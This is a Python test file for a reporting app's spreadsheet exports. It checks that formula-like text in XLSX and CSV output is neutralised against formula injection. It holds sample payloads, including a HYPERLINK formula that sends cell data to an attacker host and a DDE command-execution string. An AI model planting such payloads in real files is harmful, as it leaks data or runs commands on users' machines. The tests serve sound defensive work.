"""Formula injection (CWE-1236): every XLSX and CSV export writes admin- or person-entered text
that starts like a formula as plain text."""

import csv
import io
from datetime import date
from types import SimpleNamespace

import pytest
from openpyxl import load_workbook

from core.base.spreadsheet import cell_safe, rows_xlsx
from core.reports.documents import Document, Table, xlsx_render
from core.transfers.export import compliance_csv, compliance_xlsx
from core.transfers.selectors import ComplianceRow, ComplianceTable

ATTACK = '=HYPERLINK("http://attacker.example/?"&B3,"Bấm vào đây")'


@pytest.mark.parametrize("text", [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_starting_like_a_formula_is_neutralised(text: str) -> None:
    assert cell_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["Nguyễn Văn An", "", 42, -3, 1.5, None, date(2026, 1, 1), "a=b"])
def test_other_values_pass_unchanged(value: object) -> None:
    assert cell_safe(value) == value


def _xlsx_strings(content: bytes) -> list[tuple[object, str]]:
    book = load_workbook(io.BytesIO(content))
    return [(cell.value, cell.data_type) for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
            if cell.value is not None]


def test_a_scheduled_reports_remarks_are_not_a_live_formula() -> None:
    """The finding: remarks `=HYPERLINK(…)` became a live formula in the XLSX."""
    document = Document(title="Báo cáo", facts=(("Người ký", "@admin"),),
                        paragraphs=(("Ý kiến, khó khăn, vướng mắc, đề xuất", ATTACK),),
                        tables=(Table("Theo đơn vị", (("01", "=cmd|' /C calc'!A0", 3),)),), filename="bao-cao")
    cells = _xlsx_strings(xlsx_render(document))
    assert all(kind != "f" for _, kind in cells)
    assert ("'" + ATTACK, "s") in cells
    assert ("'=cmd|' /C calc'!A0", "s") in cells
    assert ("'@admin", "s") in cells


def test_compliance_exports_neutralise_admin_set_names() -> None:
    unit = SimpleNamespace(name="=1+1 Sở Tài chính")
    table = ComplianceTable(today=date(2026, 3, 2), kinds=[], rows=[ComplianceRow(unit=unit)])  # type: ignore[arg-type]
    rows = list(csv.reader(io.StringIO(compliance_csv(table).decode("utf-8-sig"))))
    assert rows[1][0] == "'=1+1 Sở Tài chính"
    cells = _xlsx_strings(compliance_xlsx(table))
    assert ("'=1+1 Sở Tài chính", "s") in cells and all(kind != "f" for _, kind in cells)


def test_career_lists_neutralise_names() -> None:
    cells = _xlsx_strings(rows_xlsx([["Họ tên"], ["+84 912"], [-1]], title="Danh sách"))
    assert ("'+84 912", "s") in cells and (-1, "n") in cells
